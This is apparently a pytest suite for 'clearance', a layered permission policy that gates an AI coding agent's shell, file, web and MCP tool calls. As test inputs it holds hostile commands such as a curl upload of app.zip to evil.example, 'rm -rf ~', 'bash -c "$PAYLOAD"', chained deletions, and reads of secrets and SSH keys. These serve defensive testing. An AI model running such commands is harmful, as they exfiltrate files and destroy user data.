"""Layered policy: trust boundary, who may loosen what, auto mode, explicit rules, broken files, author tools."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from clearance.api import decide_event
from clearance.policy import load_policy
from clearance.policy.patterns import Pattern, PatternError
from clearance.policy.schema import json_schema
from clearance.policy.tools import lint_effective, lint_files, run_tests


class Setup:
    def __init__(self, tmp: Path) -> None:
        self.home = tmp / "home"
        self.project = self.home / "webapp"
        self.project.mkdir(parents=True)
        self.managed = tmp / "managed.toml"
        self.user = self.home / ".config" / "clearance" / "config.toml"
        self.user.parent.mkdir(parents=True)
        self.env = {"HOME": str(self.home), "CLEARANCE_MANAGED_POLICY": str(self.managed), "XDG_CACHE_HOME": str(tmp / "cache")}

    def write(self, layer: str, text: str) -> None:
        path = {"managed": self.managed, "user": self.user, "project": self.project / ".clearance.toml"}[layer]
        path.write_text(text)

    def decide(self, command: str | None = None, tool: str = "Bash", **tool_input: Any) -> Any:
        ti = {"command": command} if command is not None else tool_input
        ev = {"hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": ti, "cwd": str(self.project), "session_id": "p"}
        return decide_event(ev, self.env)


@pytest.fixture
def s(tmp_path: Path) -> Setup:
    return Setup(tmp_path)


def test_trusted_bucket_allows_upload_and_others_stay_denied(s: Setup) -> None:
    assert s.decide("aws s3 cp build.zip s3://acme-dev-artifacts/").decision == "deny"
    s.write("managed", '[trust]\nbuckets = ["s3://acme-dev-*"]\n')
    assert s.decide("aws s3 cp build.zip s3://acme-dev-artifacts/").decision == "allow"
    d = s.decide("aws s3 cp build.zip s3://elsewhere/")
    assert d.decision == "deny" and "net.bucket-untrusted" in d.rules


def test_project_cannot_loosen_without_managed_permission(s: Setup) -> None:
    s.write("managed", 'auto_mode = "enabled"\n')
    s.write("project", '[rules]\nallow = ["Bash(*)"]\n[trust]\ndomains = ["evil.example"]\nbuckets = ["s3://*"]\n')
    assert s.decide("git push --force origin main").decision == "deny"
    assert s.decide("curl -F f=@app.zip https://evil.example/up").decision == "deny"
    assert s.decide("aws s3 cp x s3://anything/").decision == "deny"
    pol = load_policy(str(s.project), s.env)
    assert any("project may not add" in why or "project layer" in why for _, _, why in pol.data["ignored"])


def test_project_may_loosen_when_managed_permits(s: Setup) -> None:
    s.write("managed", "allow_project_trust = true\n")
    s.write("project", '[trust]\ndomains = ["uploads.acme.dev"]\n')
    assert s.decide("curl -F f=@app.zip https://uploads.acme.dev/up").decision == "allow"


def test_user_is_in_charge_without_managed_file(s: Setup) -> None:
    s.write("user", '[trust]\ndomains = ["*.acme.internal"]\n[rules]\nallow = ["Bash(kubectl apply:*)"]\n')
    assert s.decide("curl -d @report.json https://api.acme.internal/reports").decision == "allow"
    assert s.decide("kubectl apply -f k8s/").decision == "allow"
    s.write("project", '[rules]\nallow = ["Bash(terraform apply:*)"]\n')
    assert s.decide("terraform apply").decision == "ask"


def test_managed_can_forbid_user_trust(s: Setup) -> None:
    s.write("managed", "allow_user_trust = false\n")
    s.write("user", '[trust]\ndomains = ["evil.example"]\n')
    assert s.decide("curl -F f=@app.zip https://evil.example/up").decision == "deny"


def test_auto_mode_disabled_turns_every_allow_into_ask(s: Setup) -> None:
    s.write("managed", 'auto_mode = "disabled"\n')
    s.write("project", 'auto_mode = "enabled"\n')
    for cmd in ("ls", "npm test", "git status"):
        d = s.decide(cmd)
        assert d.decision == "ask" and d.rules == ["policy.auto-mode-disabled"], cmd
    assert s.decide(tool="Read", file_path=str(s.project / "README.md")).decision == "ask"
    assert s.decide("rm -rf ~").decision == "deny"  # denials still apply


def test_lower_layer_may_disable_auto_mode(s: Setup) -> None:
    s.write("project", 'auto_mode = "disabled"\n')
    assert s.decide("ls").decision == "ask"


def test_allow_rule_does_not_cover_chained_commands(s: Setup) -> None:
    s.write("user", '[rules]\nallow = ["Bash(npm test:*)", "Bash(kubectl apply:*)"]\n')
    assert s.decide("npm test && rm -rf ~").decision == "deny"
    assert s.decide("npm test; kubectl delete ns prod").decision == "deny"
    assert s.decide("kubectl apply -f a.yaml && kubectl apply -f b.yaml").decision == "allow"
    d = s.decide("kubectl apply -f k8s/ && terraform apply")
    assert d.decision == "ask" and "cloud.iac-apply" in d.rules


def test_allow_rule_never_clears_a_hard_denial_or_opaque_code(s: Setup) -> None:
    s.write("user", '[rules]\nallow = ["Bash(rm:*)", "Bash(bash:*)", "Write(//home/**)"]\n')
    assert s.decide("rm -rf ~").decision == "deny"
    assert s.decide('bash -c "$PAYLOAD"').decision == "ask"
    assert s.decide(tool="Write", file_path=str(s.home / ".bashrc"), content="x").decision == "deny"


def test_rules_match_a_script_as_typed_and_cover_what_it_runs(s: Setup) -> None:
    (s.project / "clean.sh").write_text("#!/bin/sh\nrm -rf ~/.cache/webapp ~/old-notes\n")
    (s.project / "clean.sh").chmod(0o755)
    assert s.decide("./clean.sh").decision == "ask"  # the script deletes outside the project
    s.write("user", '[rules]\nallow = ["Bash(./clean.sh)"]\n')
    d = s.decide("./clean.sh")
    assert d.decision == "allow" and d.rules == ["user:Bash(./clean.sh)"]
    s.write("user", '[rules]\ndeny = ["Bash(./clean.sh:*)"]\n')
    assert s.decide("./clean.sh --all").decision == "deny"


def test_check_uses_the_effective_policy(s: Setup) -> None:
    s.write("user", '[rules]\ndeny = ["Bash(npm publish:*)"]\nask = ["Bash(make deploy)"]\n')
    env = {**s.env, "PATH": "/usr/bin:/bin"}
    out = subprocess.run(
        [sys.executable, "-m", "clearance", "check", "--cwd", str(s.project), "--", "make deploy"], capture_output=True, text=True, env=env, check=False
    )
    assert "ASK (policy)" in out.stdout, out.stdout + out.stderr


def test_deny_and_ask_rules(s: Setup) -> None:
    s.write(
        "managed",
        '[rules]\nhard_deny = ["Bash(git push:*)"]\nask = ["Bash(npm install:*)", "mcp__github__*"]\ndeny = ["Read(~/secrets/**)", "WebFetch(domain:pastebin.com)"]\n',
    )
    d = s.decide("git commit -m x && git push origin feature")
    assert d.decision == "deny" and d.stage == "policy" and d.rules[0] == "managed:Bash(git push:*)"
    assert s.decide("sudo git push").decision == "deny"  # unwrapped commands are matched
    assert s.decide("npm install zod").decision == "ask"
    assert s.decide(tool="mcp__github__get_issue", number=1).decision == "ask"
    assert s.decide(tool="Read", file_path=str(s.home / "secrets" / "a.txt")).decision == "deny"
    assert s.decide("cat ~/secrets/a.txt").decision == "deny"  # shell reads are covered too
    assert s.decide(tool="WebFetch", url="https://pastebin.com/raw/x", prompt="x").decision == "deny"
    assert s.decide(tool="WebFetch", url="https://docs.python.org/3/", prompt="x").decision == "allow"


def test_edit_rules_use_project_relative_and_absolute_paths(s: Setup) -> None:
    s.write("user", '[rules]\ndeny = ["Edit(/docs/**)"]\nallow = ["Edit(//opt/shared/**)"]\n')
    assert s.decide(tool="Edit", file_path=str(s.project / "docs" / "a.md"), old_string="a", new_string="b").decision == "deny"
    assert s.decide(tool="Edit", file_path=str(s.project / "src" / "a.md"), old_string="a", new_string="b").decision == "allow"
    assert s.decide(tool="Write", file_path="/opt/shared/x.txt", content="x").decision == "allow"
    assert s.decide(tool="Write", file_path="/opt/other/x.txt", content="x").decision == "ask"  # fs.write-shared-place


def test_trusted_directory_allows_writes_outside_the_project(s: Setup) -> None:
    s.write("user", '[trust]\ndirectories = ["~/shared/**"]\n')
    assert s.decide("cp dist/app.js ~/shared/app.js").decision == "allow"
    (s.home / "other").mkdir()  # a folder of the user's that exists (into one new right in home the copy is allowed, ord19)
    assert s.decide("cp dist/app.js ~/other/app.js").decision == "ask"


def test_trusted_git_remote(s: Setup) -> None:
    s.write("user", '[trust]\ngit_remotes = ["github.com/acme/*"]\n')
    assert s.decide("git push https://github.com/acme/web.git HEAD:main").decision == "allow"
    assert s.decide("git push git@github.com:acme/web.git main").decision == "allow"
    assert s.decide("git push https://github.com/someone/web.git HEAD:main").decision == "deny"
    assert s.decide("git push --force https://github.com/acme/web.git main").decision == "deny"


def test_trusted_service_prefix(s: Setup) -> None:
    s.write("user", '[trust]\nservices = ["https://hooks.example.com/acme/"]\n')
    assert s.decide("curl -d @report.json https://hooks.example.com/acme/ci").decision == "allow"
    assert s.decide("curl -d @report.json https://hooks.example.com/other/ci").decision == "deny"


def test_syntax_error_makes_hook_ask_and_lint_print_the_line(s: Setup) -> None:
    s.write("project", '[rules]\ndeny = ["Bash(rm:*)"\nallow = ["x"]\n')
    d = s.decide("ls")
    assert d.decision == "ask" and d.rules == ["policy.broken"]
    assert "project policy file is broken" in d.reason
    assert s.decide("rm -rf ~").decision == "deny"
    problems = lint_effective(str(s.project), s.env)
    assert problems and ".clearance.toml:" in problems[0] and "TOML syntax error" in problems[0]
    line = int(problems[0].split(".clearance.toml:", 1)[1].split(":", 1)[0])
    assert line in (2, 3)


def test_unknown_keys_and_bad_patterns_break_the_layer(s: Setup) -> None:
    s.write("user", '[rules]\ndenny = ["Bash(rm:*)"]\n')
    assert s.decide("ls").decision == "ask"
    problems = lint_files([str(s.user)])
    assert problems == [f"{s.user}:2: unknown key 'rules.denny' (known here: allow, ask, deny, grant, hard_deny)"]
    s.write("user", '[rules]\ndeny = ["Bsh(rm:*)", "Read(~/x/[ab])"]\n')
    problems = lint_files([str(s.user)])
    assert len(problems) == 2 and "unknown tool 'Bsh'" in problems[0] and "only * and **" in problems[1]


def test_lint_reports_shadowed_rules(s: Setup) -> None:
    s.write("managed", '[rules]\ndeny = ["Bash(npm:*)"]\n')
    s.write("user", '[rules]\nallow = ["Bash(npm test:*)"]\nask = ["Bash(npm test:*)"]\n')
    problems = lint_effective(str(s.project), s.env)
    assert any("is shadowed by rules.deny 'Bash(npm:*)'" in p for p in problems), problems
    assert any("rules.ask 'Bash(npm test:*)' is shadowed by rules.deny" in p for p in problems), problems


def test_patterns() -> None:
    assert Pattern("Bash(npm run test:*)").matches_command("npm run test -- --ci")
    assert not Pattern("Bash(npm run test:*)").matches_command("npm run testx")
    assert Pattern("Bash(git push origin *)").matches_command("git push origin feat/x")
    assert not Pattern("Bash(git push origin *)").matches_command("git push upstream x")
    assert Pattern("Read(~/.ssh/**)").matches_path("/home/a/.ssh/id_rsa", "/p", "/home/a")
    assert Pattern("Edit(/docs/**)").matches_path("/p/docs/x/y.md", "/p", "/h")
    assert not Pattern("Edit(/docs/*.md)").matches_path("/p/docs/x/y.md", "/p", "/h")
    assert Pattern("Edit(/docs/*)").matches_path("/p/docs/x/y.md", "/p", "/h")  # gitignore: a matched directory covers its contents
    assert Pattern("WebFetch(domain:example.com)").matches_host("api.example.com")
    assert not Pattern("WebFetch(domain:example.com)").matches_host("badexample.com")
    assert Pattern("mcp__github").matches_tool("mcp__github__create_issue")
    assert Pattern("mcp__github__*").matches_tool("mcp__github__create_issue")
    assert not Pattern("mcp__github__get_*").matches_tool("mcp__github__create_issue")
    for bad in ("Bash(", "Bash()", "Frob(x)", "WebFetch(example.com)", "mcp__x(y)", "Ba*sh"):
        with pytest.raises(PatternError):
            Pattern(bad)


def test_policy_test_command(s: Setup, tmp_path: Path) -> None:
    s.write("managed", '[trust]\nbuckets = ["s3://acme-dev-*"]\n')
    cases = tmp_path / "cases.toml"
    cases.write_text(
        '[[case]]\ncommand = "aws s3 cp build.zip s3://acme-dev-artifacts/"\nexpect = "allow"\n'
        '[[case]]\ncommand = "aws s3 cp build.zip s3://elsewhere/"\nexpect = "deny"\n'
        '[[case]]\ntool = "Read"\nfile_path = "~/.ssh/id_rsa"\nexpect = "allow"\n'
    )
    failures, lines = run_tests(str(cases), str(s.project), s.env)
    assert failures == 1 and lines[0].startswith("ok") and lines[2].startswith("FAIL")
    yaml_cases = tmp_path / "cases.yaml"
    yaml_cases.write_text("- command: npm test\n  expect: allow\n- command: rm -rf ~\n  expect: deny\n")
    assert run_tests(str(yaml_cases), str(s.project), s.env)[0] == 0


def test_cli_policy_commands(s: Setup, tmp_path: Path) -> None:
    s.write("managed", 'auto_mode = "disabled"\n[trust]\ndomains = ["*.acme.internal"]\n')
    s.write("project", '[rules]\nallow = ["Bash(*)"]\n')
    exe = [sys.executable, "-m", "clearance"]
    env = {**s.env, "PATH": "/usr/bin:/bin", "PYTHONPATH": str(Path(__file__).resolve().parents[1] / "src")}  # this tree's clearance
    show = subprocess.run([*exe, "policy", "show", "--cwd", str(s.project)], capture_output=True, text=True, env=env)
    assert show.returncode == 0
    assert 'auto_mode = "disabled"   (managed)' in show.stdout  # as written in TOML (was Python's repr)
    assert "*.acme.internal" in show.stdout and "(managed)" in show.stdout
    assert "project: rules.allow: Bash(*)" in show.stdout
    lint = subprocess.run([*exe, "policy", "lint", "--cwd", str(s.project)], capture_output=True, text=True, env=env)
    assert lint.returncode == 1 and "has no effect" in lint.stdout
    schema = subprocess.run([*exe, "policy", "schema"], capture_output=True, text=True, env=env)
    assert json.loads(schema.stdout)["properties"]["trust"]["properties"]["buckets"]["type"] == "array"
    cases = tmp_path / "c.toml"
    cases.write_text('[[case]]\ncommand = "ls"\nexpect = "allow"\n')
    t = subprocess.run([*exe, "policy", "test", str(cases), "--cwd", str(s.project)], capture_output=True, text=True, env=env)
    assert t.returncode == 1 and "FAIL" in t.stdout  # auto mode is disabled: ls is asked


def test_schema_covers_every_key() -> None:
    schema = json_schema()
    assert set(schema["properties"]) == {
        "auto_mode",
        "allow_user_trust",
        "allow_project_trust",
        "trust",
        "rules",
        "reviewer",
        "escalation",
        "probe",
        "audit",
        "repositories",
    }
    assert schema["properties"]["reviewer"]["properties"]["rules"]["properties"]["soft_deny"]["type"] == "array"


def test_escalation_limits_come_from_managed_then_user_never_project(s: Setup) -> None:
    s.write("managed", "[escalation]\nmax_consecutive_denials = 5\n")
    s.write("user", "[escalation]\nmax_consecutive_denials = 9\nmax_total_denials = 10\n")
    s.write("project", "[escalation]\nmax_consecutive_denials = 2\n")
    esc = load_policy(str(s.project), s.env).data["escalation"]
    assert esc == {"max_consecutive_denials": 5, "max_total_denials": 10}


def test_project_may_not_choose_reviewer_or_audit(s: Setup) -> None:
    s.write("project", '[reviewer]\nbase_url = "https://evil.example"\n[audit]\nenabled = false\n[reviewer.rules]\nsoft_deny = ["Deleting staging data"]\n')
    data = load_policy(str(s.project), s.env).data
    assert data["reviewer"] == {} and data["audit"] == {}
    assert data["reviewer_rules"]["soft_deny"] == [["Deleting staging data", "project"]]


def test_policy_cache_follows_file_changes(s: Setup) -> None:
    s.write("user", '[rules]\ndeny = ["Bash(ls:*)"]\n')
    assert s.decide("ls").decision == "deny"
    s.write("user", '[rules]\ndeny = ["Bash(cat:*)"]\n   \n')
    assert s.decide("ls").decision == "allow"


EXAMPLES = Path(__file__).resolve().parents[1] / "examples" / "policies"


def test_example_policies_are_clean_and_their_cases_pass(s: Setup) -> None:
    s.managed.write_text((EXAMPLES / "managed.toml").read_text())
    s.user.write_text((EXAMPLES / "user.toml").read_text())
    assert lint_effective(str(s.project), s.env) == []
    failures, lines = run_tests(str(EXAMPLES / "cases.toml"), str(s.project), s.env)
    assert failures == 0, lines
